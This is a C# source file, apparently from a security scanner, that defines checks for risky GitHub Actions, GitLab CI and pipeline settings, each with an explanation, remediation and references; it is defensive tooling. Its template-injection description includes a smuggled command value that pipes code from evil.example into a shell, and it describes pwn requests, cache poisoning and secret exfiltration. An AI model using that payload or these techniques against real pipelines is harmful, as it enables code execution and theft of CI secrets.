using Rampart.Core.Findings;

namespace Rampart.Security.Scanning.Config.Workflows;

/// <summary>Checks for GitHub Actions workflows and actions, GitLab CI and Rampart pipeline files.</summary>
internal static class WorkflowChecks
{
    private const string GhHardening = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions";

    public static readonly ConfigCheck TemplateInjection = new(
        "gha-template-injection", ConfigKind.Workflow, Severity.High,
        "Untrusted or computed text expanded into a script",
        "`${{ }}` expressions are pasted into the script text before the shell runs it. An issue title, pull request branch name or comment body such as `a\"; curl evil.example | sh; \"` then runs as code with the job's token and secrets. Severity follows who controls the text: high for text anyone can write through an issue, comment, commit or fork branch; low for inputs of lesser reach and for step outputs whose producing step is not there to read; info for a matrix value computed at run time from contexts an outsider cannot set (not exploitable by outsiders, but the script is not static).",
        "Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`. In `actions/github-script`, read `context.payload` instead of splicing the expression.",
        GhHardening + "#understanding-the-risk-of-script-injections");

    public static readonly ConfigCheck DangerousTrigger = new(
        "gha-dangerous-trigger", ConfigKind.Workflow, Severity.Medium,
        "Privileged trigger reachable from forks",
        "`pull_request_target` and `workflow_run` run with the base repository's token and secrets even when a fork started them. Any later mistake in the workflow (a checkout of the head, an injected title) becomes a full compromise.",
        "Use `pull_request` for work on untrusted code. If the privileged trigger is needed, never check out or run the pull request's code in it, keep `permissions` read-only and pass data through artifacts.",
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/");

    public static readonly ConfigCheck UntrustedCheckout = new(
        "gha-untrusted-checkout", ConfigKind.Workflow, Severity.Critical,
        "Privileged workflow checks out the untrusted pull request head",
        "Under `pull_request_target` or `workflow_run` the job holds a write token and secrets. Checking out the fork's head and building it runs attacker code (build scripts, test hooks, package install scripts) with those rights: a \"pwn request\".",
        "Split the workflow: build untrusted code under `pull_request` with no secrets, and do the privileged part in a separate `workflow_run` job that only reads artifacts as data.",
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/");

    public static readonly ConfigCheck SelfHostedFork = new(
        "gha-self-hosted-runner", ConfigKind.Workflow, Severity.High,
        "Self-hosted runner reachable from fork pull requests",
        "A self-hosted runner is a long-lived machine. A fork pull request that runs on it can persist malware, read other jobs' files and reach the internal network.",
        "Run pull request jobs on ephemeral hosted runners, or require approval for fork workflows and use ephemeral, isolated self-hosted runners.",
        GhHardening + "#hardening-for-self-hosted-runners");

    public static readonly ConfigCheck UnpinnedUses = new(
        "gha-unpinned-uses", ConfigKind.Workflow, Severity.Medium,
        "Action not pinned to a full commit SHA",
        "Tags and branches can be moved. When tj-actions/changed-files was compromised in 2025 its tags were re-pointed to a commit that dumped secrets into logs; every workflow using a tag ran it.",
        "Pin to the full 40-character commit SHA and keep the version in a comment: `uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`. Let a bot update pins.",
        GhHardening + "#using-third-party-actions");

    public static readonly ConfigCheck UnpinnedImage = new(
        "ci-unpinned-image", ConfigKind.Workflow, Severity.Medium,
        "Container image not pinned to a digest",
        "A tag such as `:latest` or `:3` can be re-pushed at any time, so the job runs whatever the registry serves that day, including a compromised image.",
        "Reference images by digest: `image: alpine:3.20@sha256:<digest>`.",
        "https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier");

    public static readonly ConfigCheck KnownCompromised = new(
        "gha-known-compromised-action", ConfigKind.Workflow, Severity.Critical,
        "Action with a known compromise",
        "This action, at this reference, was compromised in a supply-chain attack (for example tj-actions/changed-files, CVE-2025-30066, and reviewdog/action-setup, CVE-2025-30154). Workflows that ran it leaked their secrets.",
        "Upgrade to a fixed release pinned by SHA or replace the action, and rotate every secret the workflow could reach.",
        "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3");

    public static readonly ConfigCheck MissingPermissions = new(
        "gha-missing-permissions", ConfigKind.Workflow, Severity.Medium,
        "No permissions block: the token gets the repository default",
        "Without `permissions`, the GITHUB_TOKEN gets the repository's default, which is read-write on many repositories. Research on 447,000 workflows found 99.8% over-privileged.",
        "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant write scopes only on the jobs that need them.",
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token");

    public static readonly ConfigCheck WriteAll = new(
        "gha-write-all-permissions", ConfigKind.Workflow, Severity.High,
        "Token with write-all permissions",
        "`write-all` lets any compromised step push code, create releases, approve pull requests and change packages.",
        "List only the scopes the job needs, e.g. `permissions: { contents: read }`.",
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token");

    public static readonly ConfigCheck UnneededWrite = new(
        "gha-unneeded-write-permission", ConfigKind.Workflow, Severity.Medium,
        "Write scope the job does not use",
        "A write scope that no step needs only widens what an attacker gets from one compromised step (an injected title, a hijacked action).",
        "Drop the scope, or move it to the one job that pushes, publishes or requests an OIDC token.",
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token");

    public static readonly ConfigCheck SecretsInherit = new(
        "gha-secrets-inherit", ConfigKind.Workflow, Severity.Medium,
        "Reusable workflow receives every secret",
        "`secrets: inherit` hands all of the caller's secrets to the called workflow, whatever it needs; a compromise of that workflow leaks them all.",
        "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.",
        "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow");

    public static readonly ConfigCheck SecretsBroadScope = new(
        "gha-secrets-broad-scope", ConfigKind.Workflow, Severity.Medium,
        "Secret exposed to a whole workflow or job",
        "A secret in workflow-level or job-level `env` is visible to every step, including third-party actions that never needed it.",
        "Set the secret in the `env` (or `with`) of the one step that uses it.",
        GhHardening + "#using-secrets");

    public static readonly ConfigCheck OverprovisionedSecrets = new(
        "gha-overprovisioned-secrets", ConfigKind.Workflow, Severity.High,
        "All secrets serialised into one value",
        "`toJSON(secrets)` hands every secret of the repository to one step, and the masking of individual values no longer applies to the combined text.",
        "Reference only the secrets the step needs, one by one.",
        GhHardening + "#using-secrets");

    public static readonly ConfigCheck PersistCredentials = new(
        "gha-checkout-persist-credentials", ConfigKind.Workflow, Severity.Medium,
        "Checkout keeps the token in .git/config",
        "`actions/checkout` stores the GITHUB_TOKEN in `.git/config` unless told not to. An artifact upload of the workspace (or any later step) can carry it out: the ArtiPACKED attack.",
        "Add `with: { persist-credentials: false }` to the checkout, and pass the token explicitly to the one step that pushes.",
        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/");

    public static readonly ConfigCheck CachePoisoning = new(
        "gha-cache-poisoning", ConfigKind.Workflow, Severity.High,
        "Cache restored in a release workflow",
        "Caches are shared with workflows that run untrusted code on the default branch. A poisoned cache entry restored while building a release ends up inside the published artifact.",
        "Do not restore caches in workflows that publish: remove `actions/cache` and set the setup action's `cache:` input off (or `package-manager-cache: false`).",
        "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/");

    public static readonly ConfigCheck InsecureCommands = new(
        "gha-insecure-commands", ConfigKind.Workflow, Severity.High,
        "Deprecated workflow commands re-enabled",
        "`ACTIONS_ALLOW_UNSECURE_COMMANDS` turns back on `set-env` and `add-path`, which let anything printed to the log (a test name, a file name) set environment variables and hijack later steps.",
        "Remove the variable and write to `$GITHUB_ENV` / `$GITHUB_PATH` files instead.",
        "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/");

    public static readonly ConfigCheck HardcodedCredentials = new(
        "ci-hardcoded-credentials", ConfigKind.Workflow, Severity.High,
        "Credential written in the pipeline file",
        "A password or token in the file is readable by everyone who can read the repository, stays in git history forever and is never masked in logs.",
        "Store it as a secret (`${{ secrets.NAME }}`, a masked GitLab variable, `permissions.secrets` in Rampart) and rotate the leaked value.",
        GhHardening + "#using-secrets");

    public static readonly ConfigCheck CurlPipeShell = new(
        "ci-curl-pipe-shell", ConfigKind.Workflow, Severity.Medium,
        "Script downloaded and run without verification",
        "`curl … | sh` runs whatever the server (or anyone between) returns at that moment, with the job's secrets, and leaves no record of what ran.",
        "Download a pinned version to a file, check its SHA-256 against a value stored in the repository, then run it.",
        "https://www.idontplaydarts.com/2016/04/detecting-curl-pipe-bash-server-side/");

    public static readonly ConfigCheck GitLabUnpinnedInclude = new(
        "gitlab-unpinned-include", ConfigKind.Workflow, Severity.Medium,
        "GitLab include not pinned",
        "A remote include or a project include on a branch pulls pipeline code that someone else can change at any time; it runs with this project's variables.",
        "Include project files at a full commit SHA (`ref: <sha>`), or vendor remote templates into the repository.",
        "https://docs.gitlab.com/ci/yaml/includes/");

    public static readonly ConfigCheck RampartNetworkAll = new(
        "rampart-network-all", ConfigKind.Workflow, Severity.Medium,
        "Job with unrestricted network access",
        "`network: all` lets every step of the job reach any host: exfiltrate secrets, fetch unpinned code. Rampart's default is loopback only for a reason.",
        "List the destinations the job needs: `network: [feed.example:443]`.",
        "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-07-Insecure-System-Configuration");

    public static readonly ConfigCheck RampartIdTokenNoDeploy = new(
        "rampart-id-token-without-deploy", ConfigKind.Workflow, Severity.Medium,
        "OIDC token granted to a job that does not deploy",
        "`id-token: write` lets the job obtain a token that clouds trust. A build or test job that holds one hands cloud access to every dependency it runs.",
        "Grant `id-token: write` only on the deploy or publish job, and give that job an `environment` so approvals apply.",
        "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect");

    public static readonly ConfigCheck RampartSecretsManyJobs = new(
        "rampart-secret-many-jobs", ConfigKind.Workflow, Severity.Low,
        "Same secret granted to several jobs",
        "Every job that receives a secret is one more place it can leak from. A secret most jobs hold is no longer scoped.",
        "Keep the secret on the single job that uses it; pass results between jobs as artifacts.",
        "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-06-Insufficient-Credential-Hygiene");

    public static IReadOnlyList<ConfigCheck> All { get; } =
    [
        TemplateInjection, DangerousTrigger, UntrustedCheckout, SelfHostedFork, UnpinnedUses, UnpinnedImage, KnownCompromised,
        MissingPermissions, WriteAll, UnneededWrite, SecretsInherit, SecretsBroadScope, OverprovisionedSecrets, PersistCredentials,
        CachePoisoning, InsecureCommands, HardcodedCredentials, CurlPipeShell, GitLabUnpinnedInclude, RampartNetworkAll,
        RampartIdTokenNoDeploy, RampartSecretsManyJobs,
    ];
}
